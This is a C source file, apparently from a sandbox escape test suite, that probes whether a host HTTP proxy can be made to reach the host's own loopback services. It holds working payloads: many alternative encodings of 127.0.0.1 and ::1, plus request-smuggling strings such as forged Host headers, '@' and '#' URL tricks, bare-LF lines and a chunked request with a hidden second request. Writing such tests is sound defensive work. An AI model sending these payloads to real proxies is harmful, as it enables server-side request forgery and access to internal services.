/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* The way out that there is, where there is one: a proxy of the host's, which could be
 * talked into reaching what is the host's own. Where there is none, nothing to do. */
#include "../malice.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdarg.h>
#include <sys/socket.h>

/* The proxy's answer, and what comes after it, must not hold bait. */
__attribute__ ((format (printf, 1, 2))) static void
ask_proxy (const char *format, ...)
{
  const char *proxy = maybe_given ("PROXY") != NULL ? maybe_given ("PROXY") : getenv ("http_proxy");
  const char *colon = proxy != NULL ? strrchr (proxy, ':') : NULL;
  struct sockaddr_in address = { .sin_family = AF_INET, .sin_addr.s_addr = htonl (INADDR_LOOPBACK) };
  char request[1024], answer[4096];
  size_t have = 0;
  va_list arguments;
  if (colon == NULL)
    return;
  va_start (arguments, format);
  int size = vsnprintf (request, sizeof request, format, arguments);
  va_end (arguments);
  address.sin_port = htons (atoi (colon + 1));
  int fd = socket (AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (connect (fd, (struct sockaddr *)&address, sizeof address) != 0 || write (fd, request, size) != size)
    broken ("the proxy at %s does not listen", proxy);
  for (struct pollfd p = { .fd = fd, .events = POLLIN }; have < sizeof answer && poll (&p, 1, 1000) == 1;)
    {
      ssize_t n = read (fd, answer + have, sizeof answer - have);
      if (n <= 0)
        break;
      have += (size_t)n;
    }
  close (fd);
  look_for_bait (request, answer, have);
}

static void
ask_for (const char *host, int port)
{
  ask_proxy ("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n", host, port, host, port);
  ask_proxy ("GET http://%s:%d/ HTTP/1.1\r\nHost: %s:%d\r\nConnection: close\r\n\r\n", host, port, host, port);
}

void
attack_proxy_to_host (void)
{
  static const char *const spellings[] = {
    "127.0.0.1",         "localhost",      "LOCALHOST.", "127.1", "2130706433", "0x7f000001",         "0177.0.0.1",
    "127.0.0.1.",        "[::1]",          "0.0.0.0",    "0",     "[::]",       "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
    "[64:ff9b::7f00:1]", "127.255.255.254"
  };
  for (size_t i = 0; i < sizeof spellings / sizeof *spellings; i++)
    ask_for (spellings[i], (int)given_number ("TCP_ANY"));
  ask_for ("[::1]", (int)maybe_number ("TCP6", given_number ("TCP4")));
  char *list = strdup (given ("ADDRESSES")), *save = NULL;
  for (char *a = strtok_r (list, ",", &save); a != NULL; a = strtok_r (NULL, ",", &save))
    ask_for (a, (int)given_number ("TCP_ANY"));
}

/* One head, and another host in it; a request behind a request; lines that end oddly. */
void
attack_proxy_smuggling (void)
{
  int port = (int)given_number ("TCP4");
  const char *allowed = maybe_given ("ALLOWED") != NULL ? maybe_given ("ALLOWED") : "127.0.0.1";
  ask_proxy ("CONNECT %s:%d HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n", allowed, port, port);
  ask_proxy ("GET http://%s:%d/ HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n", allowed, port, port);
  ask_proxy ("GET http://%s@127.0.0.1:%d/ HTTP/1.1\r\nHost: %s\r\n\r\n", allowed, port, allowed);
  ask_proxy ("GET http://127.0.0.1:%d#@%s/ HTTP/1.1\r\nHost: %s\r\n\r\n", port, allowed, allowed);
  ask_proxy ("GET http://127.0.0.1:%d\\@%s/ HTTP/1.1\r\nHost: %s\r\n\r\n", port, allowed, allowed);
  ask_proxy ("CONNECT %s:%d HTTP/1.1\nHost: %s\n\nCONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n", allowed, port, allowed, port);
  ask_proxy ("GET http://%s/ HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
             "GET http://127.0.0.1:%d/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
             allowed, allowed, port);
  ask_proxy ("GET /\x20HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n", port);
  ask_proxy ("CONNECT 127.0.0.1:%d\r\n\r\n", port);
}
